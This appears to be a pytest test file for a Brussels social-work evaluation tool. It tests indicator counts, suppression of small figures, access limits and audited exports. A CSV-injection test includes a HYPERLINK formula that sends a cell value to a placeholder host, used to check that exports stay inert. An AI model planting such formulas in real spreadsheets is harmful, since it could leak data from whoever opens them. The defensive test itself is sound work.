"""Indicators, suppression, dashboard and exports of the CLSS evaluation."""

import csv
import html
import io
import random
import re
import uuid
from datetime import date, datetime

import pytest
from openpyxl import load_workbook
from sqlalchemy import select, update

from app.evaluation import blocks, engine
from app.evaluation.engine import Period
from app.evaluation.filters import FilterError, validate
from app.evaluation.suppression import suppress_rate, suppress_table, suppress_value
from app.extensions import db
from app.models import (
    AuditEvent,
    CollectiveAction,
    Contact,
    Indicator,
    Objective,
    Referral,
    Term,
)

from .conftest import Api, csrf_from, login
from .evaluation_data import (
    APRIL,
    BXL,
    CONTACT_COUNTS,
    OTHER_COUNTS,
    REFERRAL_COUNTS,
    indicators,
)
from .helpers import contact_payload, new_id, published


@pytest.fixture(params=["live", "blocks"])
def way(request):
    """Every hand count holds both for the live SQL and for the monthly blocks added up."""
    return request.param


def _compute(app, world, specs, neighbourhoods=("colignon",), period=APRIL, way="live"):
    ids = [getattr(world, n).id for n in neighbourhoods]
    with app.app_context():
        if way == "blocks":
            return blocks.totals(indicators(specs), ids, period).counts()
        return {code: blocks.plain(value) for code, value in
                engine.compute(indicators(specs), ids, period).items()}


@pytest.mark.parametrize("counts", [CONTACT_COUNTS, REFERRAL_COUNTS, OTHER_COUNTS],
                         ids=["contacts", "referrals via their contact",
                              "bridges, outings, collective actions"])
def test_every_measure_and_filter_against_hand_counts(app, data, way, counts):
    got = _compute(app, data, list(counts), way=way)
    assert got == {code: value for (code, *_), value in counts.items()}


def test_period_boundaries_are_in_brussels_time(app, data, way):
    march = Period(date(2026, 3, 1), date(2026, 3, 31))
    may = Period(date(2026, 5, 1), date(2026, 5, 31))
    spec = [("people", "contact", "people", "")]
    assert _compute(app, data, spec, period=march, way=way) == {"people": 5}
    assert _compute(app, data, spec, period=may, way=way) == {"people": 7}


def test_several_neighbourhoods_add_up(app, data, way):
    spec = [("people", "contact", "people", ""), ("ref", "referral", "count", "")]
    assert _compute(app, data, spec, ("colignon", "brabant"), way=way) == {"people": 11,
                                                                            "ref": 5}
    assert _compute(app, data, spec, ("marolles",), way=way) == {"people": 9, "ref": 0}


@pytest.mark.parametrize("record,measure,text,fragment", [
    ("contact", "count", "situation=astrologie", "Valeur inconnue"),
    ("contact", "count", "couleur=rouge", "n'existe pas"),
    ("contact", "count", "situation", "forme attendue"),
    ("contact", "hours", "", "ne s'applique pas"),
    ("outing", "count", "theme=logement", "n'existe pas"),
    ("referral", "count", "status=perdu", "Valeur inconnue"),
    ("planet", "count", "", "inconnu"),
])
def test_filters_are_validated_against_the_vocabularies(app, world, record, measure, text,
                                                         fragment):
    with app.test_request_context():
        with pytest.raises(FilterError, match=fragment):
            validate(record, measure, text)
        validate("referral", "count", "situations=risque_perte_logement;org_category="
                 "logement_energie")  # plural spelling accepted


# -- suppression ------------------------------------------------------------------------------
def _hidden(table):
    return [[c.suppressed for c in row] for row in table.cells]


def test_primary_suppression_and_zero_stays_zero():
    assert suppress_value(0, 5).suppressed is False
    assert [suppress_value(v, 5).suppressed for v in (1, 4, 5, 12)] == [True, True, False, False]
    assert suppress_value(3, 5).shown(5) == "<5"
    assert suppress_rate(3, 10, 5).suppressed            # 3 taken up: a small count
    assert suppress_rate(8, 10, 5).suppressed            # 2 not taken up
    assert not suppress_rate(6, 12, 5).suppressed
    assert suppress_rate(0, 0, 5).value == 0.0


def test_complementary_suppression_on_a_hand_made_table():
    table = suppress_table(["a", "b", "c"], ["x", "y", "z"],
                           [[3, 10, 12], [8, 9, 20], [0, 15, 7]], k=5)
    # 3 is small; its row and column each need a second hidden cell: the smallest visible
    # non-zero ones (8 in column x, 10 in row a), and so on until every line is safe.
    assert _hidden(table)[0][0] is True
    for line in _lines(table):
        hidden = [c for c in line if c.suppressed]
        assert len(hidden) != 1
    assert table.cells[2][0].value == 0 and not table.cells[2][0].suppressed
    assert table.total.value == 84 and not table.total.suppressed


def test_small_totals_are_hidden_too():
    table = suppress_table(["a", "b"], ["x", "y"], [[2, 0], [1, 30]], k=5)
    assert table.row_totals[0].suppressed            # 2
    assert table.cells[0][0].suppressed and table.cells[1][0].suppressed
    assert table.col_totals[0].suppressed            # 3
    for line in _lines(table):
        assert len([c for c in line if c.suppressed]) != 1


def _lines(table):
    rows = [cells + [total] for _, cells, total in table.rows()]
    rows.append(table.col_totals + [table.total])
    return rows + [list(col) for col in zip(*rows, strict=True)]


def test_totals_never_reveal_a_hidden_cell_on_random_tables():
    rng = random.Random(7)
    for _ in range(300):
        n_rows, n_cols = rng.randint(1, 6), rng.randint(1, 6)
        values = [[rng.choice([0, 0, 1, 2, 3, 4, 5, 6, 9, 15, 40]) for _ in range(n_cols)]
                  for _ in range(n_rows)]
        table = suppress_table(list(range(n_rows)), list(range(n_cols)), values, k=5)
        for line in _lines(table):
            assert len([c for c in line if c.suppressed]) != 1
            assert all(not c.suppressed for c in line if c.value == 0)
            assert all(c.suppressed for c in line if 0 < c.value < 5)


# -- pages, exports and the API ------------------------------------------------------------
def _canary_contact(app, world):
    api = Api(app.test_client(), world.worker.key)
    contact_id = new_id()
    api.put(f"/contacts/{contact_id}", contact_payload(note="CANARY-NOTE",
                                                       person_code="CANARY-CODE"))
    with app.app_context():
        # A key that keeps its small figures small once perturbed (a count of 1 stays 1, its
        # 2 people become 3), so that the exports have a "<5" to show.
        db.session.execute(update(Contact).where(Contact.id == uuid.UUID(contact_id))
                           .values(record_key=0.4375))
        blocks.invalidate_all()
        db.session.commit()
    return contact_id


def test_dashboard_shows_every_plan_with_suppressed_figures(app, world):
    with app.app_context():
        from app.loaders import load_evaluation
        load_evaluation()
    _canary_contact(app, world)
    client = app.test_client()
    login(client, world.coordinator.key)
    page = client.get(f"/evaluation?period=year&year={datetime.now(BXL).year}")
    assert page.status_code == 200
    text = html.unescape(page.text)
    for expected in ("Missions des Relais", "Plan d'action CLSS Colignon", "Projets CLSS",
                     "Contacts individuels", "<5", "<svg"):
        assert expected in text
    assert "CANARY" not in page.text


def test_exports_hold_no_note_code_or_record_id_and_are_audited(app, world):
    with app.app_context():
        from app.loaders import load_evaluation
        load_evaluation()
    contact_id = _canary_contact(app, world)
    client = app.test_client()
    login(client, world.coordinator.key)
    year = datetime.now(BXL).year
    bodies = []
    for table in ("indicators", "theme_month", "situation_neighbourhood", "outcome_category"):
        response = client.get(f"/evaluation/export/{table}.csv?year={year}")
        assert response.status_code == 200 and response.mimetype == "text/csv"
        bodies.append(response.data.decode("utf-8-sig"))
    xlsx = client.get(f"/evaluation/export.xlsx?year={year}")
    assert xlsx.status_code == 200
    workbook = load_workbook(io.BytesIO(xlsx.data))
    bodies.append("\n".join(str(cell.value) for sheet in workbook for row in sheet.iter_rows()
                            for cell in row if cell.value is not None))
    bodies.append(client.get(f"/evaluation/print?year={year}").text)
    bodies.append(client.get("/api/v1/indicators").text)
    uuid_pattern = re.compile(r"[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}")
    for body in bodies:
        assert "CANARY" not in body and contact_id not in body
        assert not uuid_pattern.search(body)
    assert "<5" in bodies[0]
    with app.app_context():
        exports = db.session.scalars(select(AuditEvent).where(
            AuditEvent.action == "export")).all()
    assert len(exports) == 7
    assert {e.detail["format"] for e in exports} == {"csv", "xlsx", "print", "api"}


def test_indicator_api_gives_null_for_suppressed(app, world, data):
    with app.app_context():
        objective = Objective(plan="RAQ", code="T", level="mission", title_fr="Test")
        db.session.add(objective)
        db.session.flush()
        db.session.add_all([
            Indicator(objective_id=objective.id, code="few", label_fr="Peu", record="contact",
                      measure="count", filter="situation=souffrance_psychique"),
            Indicator(objective_id=objective.id, code="many", label_fr="Beaucoup",
                      record="contact", measure="people", filter=""),
            Indicator(objective_id=objective.id, code="hours", label_fr="Heures",
                      record="outing", measure="hours", filter=""),
        ])
        db.session.commit()
    api = Api(app.test_client(), world.coordinator.key)
    response = api.get("/indicators?neighbourhood=colignon&neighbourhood=brabant"
                       "&from=2026-04-01&to=2026-04-30")
    body = response.get_json()
    figures = {i["code"]: i for i in body["indicators"]}
    with app.app_context():
        april = [c for c in db.session.scalars(select(Contact))
                 if date(2026, 4, 1) <= c.occurred_at.astimezone(BXL).date() <= APRIL.end
                 and c.neighbourhood_id in (world.colignon.id, world.brabant.id)]
        many = published(april, lambda c: c.people_count)
        few = published([c for c in april if "souffrance_psychique" in c.codes("situation")])
    assert sum(c.people_count for c in april) == 11 and abs(many - 11) <= 2
    # Two contacts: hidden, unless their perturbation made them 0 (one time in sixteen).
    hidden = 0 < few < 5
    assert figures["few"] == {**figures["few"], "value": None if hidden else few,
                              "suppressed": hidden}
    assert figures["many"]["value"] == many and figures["many"]["suppressed"] is False
    assert isinstance(figures["many"]["value"], int) and body["perturbed"] is True
    assert figures["hours"]["value"] == 6.5  # hours single nobody out: never suppressed
    # The team reads its own exact figures.
    own = Api(app.test_client(), world.worker.key).get(
        "/indicators?neighbourhood=colignon&neighbourhood=brabant&from=2026-04-01"
        "&to=2026-04-30").get_json()
    assert own["perturbed"] is False
    assert {i["code"]: i["value"] for i in own["indicators"]}["many"] == 11
    bad = api.get("/indicators?from=2026-04-30&to=2026-04-01")
    assert bad.status_code == 422
    assert api.get("/indicators?neighbourhood=marolles").status_code == 404


def test_field_worker_dashboard_is_limited_to_their_neighbourhoods(app, world):
    client = app.test_client()
    login(client, world.colleague.key)  # Colignon only
    page = client.get("/evaluation")
    assert page.status_code == 200
    assert 'value="brabant"' not in page.text and 'value="colignon"' in page.text
    assert client.get("/evaluation?n=brabant").status_code == 404


def test_coordinator_edits_an_indicator_with_a_validated_filter(app, world):
    with app.app_context():
        from app.loaders import load_evaluation
        load_evaluation()
        indicator_id = db.session.scalar(select(Indicator.id).where(
            Indicator.code == "raq_m2_aller_vers"))
    client = app.test_client()
    login(client, world.coordinator.key)
    form = client.get(f"/evaluation/indicators/{indicator_id}/edit")
    assert form.status_code == 200
    with app.app_context():
        objective_id = db.session.get(Indicator, indicator_id).objective_id
    data = {"csrf_token": csrf_from(form.text), "objective_id": str(objective_id),
            "code": "raq_m2_aller_vers", "label_fr": "Aller-vers", "record": "contact",
            "measure": "people", "filter": "initiative=aller_vers|tout", "position": "3",
            "active": "y"}
    refused = client.post(f"/evaluation/indicators/{indicator_id}/edit", data=data)
    assert refused.status_code == 422
    assert "Valeur inconnue pour « initiative » : tout." in refused.text.replace("&#34;", '"')
    data["filter"] = "initiative=aller_vers;theme=logement"
    assert client.post(f"/evaluation/indicators/{indicator_id}/edit",
                       data=data).status_code == 302
    with app.app_context():
        assert db.session.get(Indicator, indicator_id).filter == \
            "initiative=aller_vers;theme=logement"


# -- collective actions ----------------------------------------------------------------------
def test_collective_actions_api_and_pages(app, world):
    api = Api(app.test_client(), world.worker.key)
    action_id = new_id()
    payload = {"neighbourhood": "colignon", "mission": "info_sante",
               "occurred_on": "2026-11-02", "participants": 14, "themes": ["sante"],
               "organisations": [world.cpas.id], "title": "Stand santé"}
    assert api.put(f"/collective-actions/{action_id}", payload).status_code == 201
    assert api.put(f"/collective-actions/{action_id}", payload).status_code == 200
    body = api.get(f"/collective-actions/{action_id}").get_json()
    assert body["participants"] == 14 and body["organisations"] == [world.cpas.id]
    for bad in ({"participants": -1}, {"mission": "fête"}, {"occurred_on": "demain"},
                {"organisations": [999999]}, {"names": ["Jean"]}):
        assert api.put(f"/collective-actions/{new_id()}", {**payload, **bad}).status_code == 422
    assert api.put(f"/collective-actions/{new_id()}",
                   {**payload, "neighbourhood": "marolles"}).status_code == 403
    listing = api.client.get("/collective-actions").text
    assert "Stand santé" in listing
    form = api.client.get("/collective-actions/new")
    created = api.client.post("/collective-actions/new", data={
        "csrf_token": csrf_from(form.text), "neighbourhood": "brabant", "mission": "maillage",
        "occurred_on": "2026-11-03", "participants": "6", "title": "Réunion réseau"})
    assert created.status_code == 302
    invalid = api.client.post("/collective-actions/new", data={
        "csrf_token": csrf_from(form.text), "neighbourhood": "brabant",
        "occurred_on": "2026-11-03", "participants": "-3", "title": "garder"})
    assert invalid.status_code == 422 and "garder" in invalid.text
    with app.app_context():
        assert db.session.scalar(select(CollectiveAction).where(
            CollectiveAction.title == "Réunion réseau")) is not None


def test_demo_dashboard_equals_independent_counts(app, world):
    """The demo, opened for Colignon this year: indicators equal counts made here in Python."""
    with app.app_context():
        from tests.conftest import _empty_database
        _empty_database()
    app.test_cli_runner().invoke(args=["demo"])
    year = datetime.now(BXL).year
    client = app.test_client()
    login(client, "coordination@relais.demo", "relais-demo-2026")
    body = client.get(f"/api/v1/indicators?neighbourhood=colignon&from={year}-01-01"
                      f"&to={year}-12-31").get_json()
    figures = {i["code"]: i for i in body["indicators"]}
    start, end = datetime(year, 1, 1, tzinfo=BXL), datetime(year + 1, 1, 1, tzinfo=BXL)
    with app.app_context():
        from app.models import Neighbourhood
        colignon = db.session.scalar(select(Neighbourhood).where(Neighbourhood.code ==
                                                                 "colignon"))
        contacts = [c for c in db.session.scalars(select(Contact))
                    if c.neighbourhood_id == colignon.id and start <= c.occurred_at < end]
        referrals = [r for r in db.session.scalars(select(Referral))
                     if r.neighbourhood_id == colignon.id and start <= r.created_at < end]
        people = lambda c: c.people_count  # noqa: E731
        chosen = {
            "raq_m2_contacts": (contacts, people),
            "raq_m2_aller_vers": ([c for c in contacts if c.initiative == "aller_vers"],
                                  people),
            "mar_111_reperes": ([c for c in contacts
                                 if "risque_perte_logement" in c.codes("situation")], people),
            "raq_m2_orientations": (referrals, lambda r: 1),
            "raq_m2_sature": ([r for r in referrals if r.outcome == "service_sature"],
                              lambda r: 1),
        }
        # The coordinator reads each figure perturbed by its records' keys.
        expected = {code: published(records, weight)
                    for code, (records, weight) in chosen.items()}
        exact = {code: sum(weight(r) for r in records)
                 for code, (records, weight) in chosen.items()}
    for code, value in expected.items():
        figure = figures[code]
        assert abs(value - exact[code]) <= 2, code
        if figure["suppressed"]:
            assert 0 < value < 5, code
        else:
            assert figure["value"] == value, code
    assert exact["raq_m2_contacts"] > 50 and body["perturbed"] is True
    page = client.get(f"/evaluation?n=colignon&year={year}")
    assert "Plan d'action CLSS Colignon" in html.unescape(page.text)
    xlsx = client.get(f"/evaluation/export.xlsx?n=colignon&year={year}")
    assert xlsx.status_code == 200 and xlsx.data[:2] == b"PK"


FORMULAS = ['=HYPERLINK("https://example.invalid/?d="&E5,"Voir")', "+1+2", "-3+4", "@SUM(A1)",
            "\t=1+1", "\r=1+1"]


def test_labels_that_look_like_formulas_come_out_inert(app, world):
    """An indicator label or a vocabulary label typed as a formula stays text in the CSV and
    XLSX exports (OWASP's CSV injection rule)."""
    with app.app_context():
        from app.loaders import load_evaluation
        load_evaluation()
        indicators = db.session.scalars(select(Indicator).order_by(Indicator.id)).all()
        for indicator, formula in zip(indicators, FORMULAS, strict=False):
            indicator.label_fr = formula
        theme = db.session.scalars(select(Term).where(Term.vocabulary == "theme")).first()
        theme.label_fr = "=1+1"
        db.session.commit()
    client = app.test_client()
    login(client, world.coordinator.key)
    year = datetime.now(BXL).year
    text = client.get(f"/evaluation/export/indicators.csv?year={year}").data.decode("utf-8-sig")
    cells = [cell for line in csv.reader(io.StringIO(text), delimiter=";") for cell in line]
    for formula in FORMULAS:
        assert "'" + formula in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    themes = client.get(f"/evaluation/export/theme_month.csv?year={year}").data.decode("utf-8-sig")
    assert "'=1+1" in [line.split(";")[0] for line in themes.splitlines()]
    workbook = load_workbook(io.BytesIO(client.get(f"/evaluation/export.xlsx?year={year}").data))
    texts = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)]
    assert all(cell.data_type == "s" for cell in texts)
    # XLSX keeps no bare carriage return: it reads back as a line feed, still behind the "'"
    values = {cell.value.replace("\n", "\r") for cell in texts}
    assert {"'" + formula for formula in FORMULAS} <= values and "'=1+1" in values
    assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize("query", ["from=2026-04-02&to=2026-04-30", "from=2026-04-01&to=2026-04-29",
                                   "from=2026-04-01&to=2026-05-15"])
def test_outside_the_team_a_period_is_made_of_whole_months(app, world, query):
    """Day-precise periods let two figures be subtracted to find one person: a coordinator
    asks for whole months (422 on the API, the year and a message on the page); the team
    itself keeps day precision on its own neighbourhoods."""
    coordinator = Api(app.test_client(), world.coordinator.key)
    refused = coordinator.get(f"/indicators?neighbourhood=colignon&{query}")
    assert refused.status_code == 422
    assert "mois" in refused.get_json()["errors"]["from"][0]
    page = coordinator.client.get(f"/evaluation?n=colignon&period=custom&{query}")
    assert page.status_code == 200 and "premier jour d&#39;un mois" in page.text
    assert 'type="month" name="from"' in page.text
    whole = coordinator.get("/indicators?neighbourhood=colignon&from=2026-04&to=2026-05")
    assert whole.status_code == 200, whole.get_json()
    assert (whole.get_json()["from"], whole.get_json()["to"]) == ("2026-04-01", "2026-05-31")
    worker = Api(app.test_client(), world.worker.key)
    assert worker.get(f"/indicators?neighbourhood=colignon&{query}").status_code == 200
